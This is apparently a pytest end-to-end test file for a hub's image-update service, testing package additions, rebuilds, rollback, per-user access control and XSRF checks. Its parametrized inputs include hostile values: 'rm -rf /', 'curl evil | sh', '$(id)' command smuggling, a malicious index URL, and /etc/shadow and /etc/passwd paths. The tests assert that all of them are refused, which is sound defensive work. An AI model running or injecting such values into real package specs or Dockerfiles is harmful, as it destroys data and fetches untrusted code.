"""The image-update service end to end: a real hub process, the ds01 managed service,
the real engine and a local package index. Add a package, rebuild, restart, import it."""

from __future__ import annotations

import json
import time
from pathlib import Path

import docker
import pytest
import requests

from tests.pkgindex import PackageIndex, make_wheel

from .conftest import exec_in
from .hubprocess import Client, HubProcess, hub_with_index

USERS = ("alice", "bob")


@pytest.fixture(scope="module")
def index(tmp_path_factory):
    packages = {"ds01hello": "1.0", "ds01extra": "2.0"}
    with PackageIndex(tmp_path_factory.mktemp("index"), packages) as index:
        yield index


@pytest.fixture(scope="module")
def hub(tmp_path_factory, index):
    with hub_with_index(
        tmp_path_factory.mktemp("imagehub"),
        index.url,
        USERS,
    ) as hub:
        yield hub


def workspace(hub: HubProcess, user: str, project: str) -> Path:
    return hub.data_dir / "workspaces" / user / project


@pytest.fixture(scope="module")
def alice(hub):
    client = Client(hub, "alice")
    r = hub.api("POST", "users/alice/servers/thesis", data=json.dumps({"user_options": {}}))
    assert r.status_code in (201, 202), r.text
    hub.wait_ready("alice", "thesis")
    return client


def engine_image(ref: str):
    return docker.from_env().images.get(ref)


def test_add_package_rebuild_restart_and_import(hub, alice):
    info = alice.get("images/alice/thesis").json()
    assert info["built"] and info["packages"] == {"pip": [], "apt": []}
    old_id = info["image_id"]

    r = alice.post("images/alice/thesis/packages", {"add_pip": ["ds01hello==1.0"]})
    assert r.status_code == 200, r.text
    assert r.json()["packages"]["pip"] == ["ds01hello==1.0"]
    dockerfile = (workspace(hub, "alice", "thesis") / "Dockerfile").read_text()
    assert '"ds01hello==1.0"' in dockerfile
    assert alice.get("images/alice/thesis").json()["dockerfile_changed"] is True

    r = alice.post("images/alice/thesis/rebuild")
    assert r.status_code == 202, r.text
    events = alice.wait_build("images/alice/thesis")
    assert events[-1]["phase"] == "built", events[-5:]
    assert any("ds01hello" in (e.get("message") or "") for e in events)
    assert [e["progress"] for e in events if e.get("progress") is not None] == sorted(
        e["progress"] for e in events if e.get("progress") is not None
    )

    info = alice.get("images/alice/thesis").json()
    assert info["image_id"] != old_id and info["previous_id"] == old_id
    assert info["running"][0]["outdated"] is True, "the running server is on the older image"

    r = alice.post("images/alice/thesis/restart")
    assert r.status_code == 200, r.text
    hub.wait_ready("alice", "thesis", timeout=120)
    (c,) = docker.from_env().containers.list(filters={"label": ["ds01.user=alice"]})
    assert c.image.id == info["image_id"]
    assert exec_in(c, "python -c 'import ds01hello; print(ds01hello.VALUE)'") == (0, "42")


def test_failed_build_keeps_the_old_image(hub, alice):
    before = alice.get("images/alice/thesis").json()["image_id"]
    assert alice.post("images/alice/thesis/packages", {"add_pip": ["ds01-not-there"]}).ok
    assert alice.post("images/alice/thesis/rebuild").status_code == 202
    events = alice.wait_build("images/alice/thesis")
    assert events[-1]["phase"] == "failed"
    assert "ds01-not-there" in events[-1]["message"] or any(
        "ds01-not-there" in (e.get("message") or "") for e in events
    )
    info = alice.get("images/alice/thesis").json()
    assert info["image_id"] == before, "failure keeps :latest"
    assert info["build"]["status"] == "failed" and info["build"]["log_tail"]
    assert alice.post("images/alice/thesis/packages", {"remove_pip": ["ds01-not-there"]}).ok


@pytest.fixture
def dockerfile_restored(hub, alice):
    """alice's Dockerfile path; whatever the test does to it, the original is put back."""
    path = workspace(hub, "alice", "thesis") / "Dockerfile"
    text = path.read_text()
    yield path
    if path.is_symlink() or path.is_file():
        path.unlink()
    elif path.is_dir():
        path.rmdir()
    path.write_text(text)


def test_missing_base_image_is_named_and_latest_stays(hub, alice, dockerfile_restored):
    before = alice.get("images/alice/thesis").json()["image_id"]
    dockerfile_restored.write_text("FROM ds01/no-such-base:latest\nRUN true\n")  # a user edit
    assert alice.post("images/alice/thesis/rebuild").status_code == 202
    events = alice.wait_build("images/alice/thesis")
    assert events[-1]["phase"] == "failed"
    assert (
        "the base image ds01/no-such-base:latest is not on this machine" in (events[-1]["message"])
    )
    assert engine_image("ds01-alice/thesis:latest").id == before, "failure keeps :latest"
    assert alice.get("images/alice/thesis").json()["build"]["status"] == "failed"


@pytest.mark.parametrize("kind", ["link to /etc/shadow", "directory", "missing"])
def test_unreadable_dockerfile_is_a_clear_error_and_nothing_builds(
    hub, alice, dockerfile_restored, kind
):
    before = alice.get("images/alice/thesis").json()["image_id"]
    dockerfile_restored.unlink()
    if kind == "directory":
        dockerfile_restored.mkdir()
    elif kind.startswith("link"):
        dockerfile_restored.symlink_to("/etc/shadow")
    r = alice.post("images/alice/thesis/rebuild")
    assert r.status_code == 409, r.text
    says = {"directory": "not a regular file", "missing": "missing"}.get(kind, "cannot read")
    assert says in r.json()["message"] and "Dockerfile" in r.json()["message"]
    info = alice.get("images/alice/thesis").json()
    assert info["image_id"] == before and info["problem"], "the page shows the problem"
    assert info["build"]["status"] != "running"


@pytest.mark.parametrize(
    "spec",
    [
        "vim; rm -rf /",
        "vim\nRUN curl evil | sh",
        "-o APT::Get::AllowUnauthenticated=true",
        "--allow-downgrades",
        "../../etc/passwd",
        "vim=$(id)",
        "ВИМ",
        "x" * 300,
    ],
)
def test_hostile_apt_specs_are_refused_and_nothing_written(hub, alice, spec):
    path = workspace(hub, "alice", "thesis") / "Dockerfile"
    before = path.read_text()
    r = alice.post("images/alice/thesis/packages", {"add_apt": [spec]})
    assert r.status_code == 400, (spec, r.text)
    assert "apt" in r.json()["message"]
    assert path.read_text() == before


def test_rollback_swaps_latest_and_previous(hub, alice):
    info = alice.get("images/alice/thesis").json()
    r = alice.post("images/alice/thesis/rollback")
    assert r.status_code == 200, r.text
    assert engine_image("ds01-alice/thesis:latest").id == info["previous_id"]
    assert engine_image("ds01-alice/thesis:previous").id == info["image_id"]
    assert alice.post("images/alice/thesis/rollback").ok  # and back
    assert engine_image("ds01-alice/thesis:latest").id == info["image_id"]


@pytest.mark.parametrize(
    "spec",
    [
        "ds01hello\nRUN rm -rf /",
        "x; rm -rf /",
        "x && curl evil",
        "`id`",
        "$(id)",
        "--index-url=http://evil/simple",
        "-e /etc",
        "/etc/passwd",
        "https://evil.example/x.whl",
        "x @ https://evil.example/x.whl",
    ],
)
def test_hostile_package_specs_are_refused_and_nothing_written(hub, alice, spec):
    path = workspace(hub, "alice", "thesis") / "Dockerfile"
    before = path.read_text()
    r = alice.post("images/alice/thesis/packages", {"add_pip": [spec]})
    assert r.status_code == 400, (spec, r.text)
    assert r.json()["message"]
    assert path.read_text() == before


def test_another_users_project_is_forbidden(hub, alice):
    bob = Client(hub, "bob")
    path = workspace(hub, "alice", "thesis") / "Dockerfile"
    before = path.read_text()
    for call in (
        lambda: bob.get("images/alice/thesis"),
        lambda: bob.post("images/alice/thesis/packages", {"add_pip": ["requests"]}),
        lambda: bob.post("images/alice/thesis/rebuild"),
        lambda: bob.post("images/alice/thesis/rollback"),
        lambda: bob.post("images/alice/thesis/delete"),
        lambda: bob.get("images/alice/thesis/events"),
    ):
        r = call()
        assert r.status_code == 403, r.text
    assert path.read_text() == before
    assert [p["project"] for p in bob.get("images").json()["projects"]] == []
    assert bob.get("images?all=1").status_code == 403


@pytest.mark.parametrize(
    "body, status, says",
    [
        ({"add_pip": "requests; id"}, 400, "pip package"),  # a string is read as lines
        ({"add_pip": [1, 2]}, 400, "lists of strings"),
        ({"add_pip": {"requests": 1}}, 400, "lists of strings"),
        ({"requirements": ["requests"]}, 400, "requirements must be text"),
        ({"add_pip": ["requests"], "run": "curl evil | sh"}, 400, "unknown field 'run'"),
        (["add_pip", "requests"], 400, "JSON object"),
        ("not json {", 400, "must be JSON"),
        ({"requirements": "requests\n" * 40000}, 413, "larger than"),
    ],
)
def test_malformed_payloads_are_refused_and_nothing_written(hub, alice, body, status, says):
    path = workspace(hub, "alice", "thesis") / "Dockerfile"
    before = path.read_text()
    data = body if isinstance(body, str) else json.dumps(body)
    r = requests.post(
        alice.base + "images/alice/thesis/packages", data=data, headers=alice.headers, timeout=60
    )
    assert r.status_code == status, r.text
    assert says in r.json()["message"]
    assert path.read_text() == before


@pytest.mark.parametrize(
    "path, status",
    [
        ("images/alice/..%2Fbob/packages", 404),
        ("images/ALICE/thesis/packages", 403),
        ("images/bob/thesis/restart", 404),  # his own name, a project he does not have
        ("images/alice/thesis/restart", 403),
        ("policy/reload", 403),
    ],
)
def test_other_names_in_service_urls_are_refused(hub, alice, path, status):
    bob = Client(hub, "bob")
    before = (workspace(hub, "alice", "thesis") / "Dockerfile").read_text()
    r = bob.post(path, {"add_pip": ["requests"]} if path.endswith("packages") else {})
    assert r.status_code == status, r.text
    assert (workspace(hub, "alice", "thesis") / "Dockerfile").read_text() == before
    assert hub.api("GET", "users/alice").json()["servers"]["thesis"]["ready"], "not restarted"


def test_admin_sees_every_image_and_cannot_delete_a_running_one(hub, alice):
    admin = Client(hub, "admin")
    projects = admin.get("images?all=1").json()["projects"]
    assert ("alice", "thesis") in {(p["owner"], p["project"]) for p in projects}
    r = admin.post("images/alice/thesis/delete")
    assert r.status_code == 409 and "stop the project's server" in r.json()["message"]


def test_page_forms_need_xsrf_and_show_the_project(hub, alice):
    s = hub.login("alice")
    page = s.get(f"{hub.url}/services/ds01/images/alice/thesis", timeout=30)
    assert page.status_code == 200 and "Packages in the image" in page.text
    r = s.post(
        f"{hub.url}/services/ds01/images/alice/thesis/packages",
        data={"add_pip": "requests"},
        timeout=30,
        allow_redirects=False,
    )
    assert r.status_code == 403, "a form post without _xsrf is refused"
    assert "requests" not in (workspace(hub, "alice", "thesis") / "Dockerfile").read_text()


@pytest.mark.parametrize("action", ["rebuild", "rollback", "restart", "delete"])
def test_every_page_action_needs_xsrf(hub, alice, action):
    """A cross-site form post (the browser sends the cookie, not the _xsrf) changes nothing."""
    s = hub.login("alice")
    info = alice.get("images/alice/thesis").json()
    container = hub.api("GET", "users/alice").json()["servers"]["thesis"]
    r = s.post(
        f"{hub.url}/services/ds01/images/alice/thesis/{action}",
        data={"nocache": "1"},
        timeout=30,
        allow_redirects=False,
    )
    assert r.status_code == 403 and "_xsrf" in r.text, (action, r.status_code, r.text[:200])
    after = alice.get("images/alice/thesis").json()
    assert after["image_id"] == info["image_id"] and after["previous_id"] == info["previous_id"]
    assert after["build"] == info["build"], "no build started"
    assert hub.api("GET", "users/alice").json()["servers"]["thesis"] == container, "no restart"


def test_hub_forms_need_xsrf(hub, alice):
    """The project picker and the policy reload form refuse a post without _xsrf."""
    s = hub.login("alice")
    r = s.post(
        f"{hub.url}/hub/spawn/alice/sneaky",
        data={"project": "sneaky", "type": "base"},
        timeout=30,
        allow_redirects=False,
    )
    assert r.status_code == 403 and "xsrf" in r.text.lower(), r.text[:300]
    assert "sneaky" not in hub.api("GET", "users/alice").json()["servers"]
    assert not workspace(hub, "alice", "sneaky").exists()
    admin = hub.login("admin")
    r = admin.post(f"{hub.url}/services/ds01/policy/reload", timeout=30, allow_redirects=False)
    assert r.status_code == 403 and "_xsrf" in r.text, r.text[:300]


def test_packages_installed_in_the_container_are_offered_and_accepted(hub, alice):
    """pip install inside the server, retire it: the page offers the package; accept it."""
    name, data = make_wheel("ds01extra", "2.0")
    (workspace(hub, "alice", "thesis") / name).write_bytes(data)
    (c,) = docker.from_env().containers.list(filters={"label": ["ds01.user=alice"]})
    assert exec_in(c, f"pip install --no-index -q /workspace/{name}")[0] == 0

    # retire (stop) and start again through the hub
    assert hub.api("DELETE", "users/alice/servers/thesis").status_code in (202, 204)
    for _ in range(60):
        if "thesis" not in hub.api("GET", "users/alice").json()["servers"]:
            break
        time.sleep(0.5)
    offered = alice.get("images/alice/thesis").json()["installed_last_session"]
    assert offered and offered["packages"] == ["ds01extra==2.0"]

    # one click: add them and rebuild (the index serves ds01extra too)
    r = alice.post(
        "images/alice/thesis/packages", {"add_pip": offered["packages"], "rebuild": True}
    )
    assert r.status_code == 200, r.text
    assert alice.get("images/alice/thesis").json()["installed_last_session"] is None
    events = alice.wait_build("images/alice/thesis")
    assert events[-1]["phase"] == "built", events[-5:]

    r = hub.api("POST", "users/alice/servers/thesis", data=json.dumps({"user_options": {}}))
    assert r.status_code in (201, 202), r.text
    hub.wait_ready("alice", "thesis")
    (c,) = docker.from_env().containers.list(filters={"label": ["ds01.user=alice"]})
    assert exec_in(c, "python -c 'import ds01extra; print(ds01extra.VALUE)'") == (0, "42")


def test_a_junk_token_header_does_not_switch_off_xsrf(hub, alice):
    """A same-origin page (e.g. another user's server under /user/eve/) sends alice's
    cookie with fetch() and any header it likes: a junk token must not stand in for
    the _xsrf, or alice's Dockerfile changes without her."""
    s = hub.login("alice")
    assert s.get(f"{hub.url}/services/ds01/images/alice/thesis", timeout=30).status_code == 200
    before = (workspace(hub, "alice", "thesis") / "Dockerfile").read_text()
    info = alice.get("images/alice/thesis").json()
    for header in ("token junk", "Bearer junk", "token "):
        r = s.post(
            f"{hub.url}/services/ds01/api/images/alice/thesis/packages",
            json={"add_pip": ["evilpkg"], "rebuild": True},
            headers={
                "Authorization": header,
                "Sec-Fetch-Mode": "cors",
                "Sec-Fetch-Site": "same-origin",
            },
            timeout=30,
            allow_redirects=False,
        )
        # refused either way: as a token the hub did not accept, or as a cookie without _xsrf
        refused = "did not accept this token" in r.text or "_xsrf" in r.text
        assert r.status_code == 403 and refused, (header, r.status_code, r.text[:200])
    assert (workspace(hub, "alice", "thesis") / "Dockerfile").read_text() == before
    assert alice.get("images/alice/thesis").json()["build"] == info["build"], "no build started"
    # a real token still works without _xsrf: scripts and the terminal commands use one
    r = alice.post("images/alice/thesis/packages", {"remove_pip": ["not-there"]})
    assert r.status_code == 400 and "not in the managed sections" in r.text, r.text


def test_service_pages_cannot_be_framed(hub, alice):
    s = hub.login("alice")
    for path in ("", "images/alice/thesis", "limits", "api/images"):
        r = s.get(f"{hub.url}/services/ds01/{path}", timeout=30)
        assert r.status_code == 200, (path, r.status_code)
        assert r.headers["Content-Security-Policy"] == "frame-ancestors 'none'"
        assert r.headers["X-Frame-Options"] == "DENY"
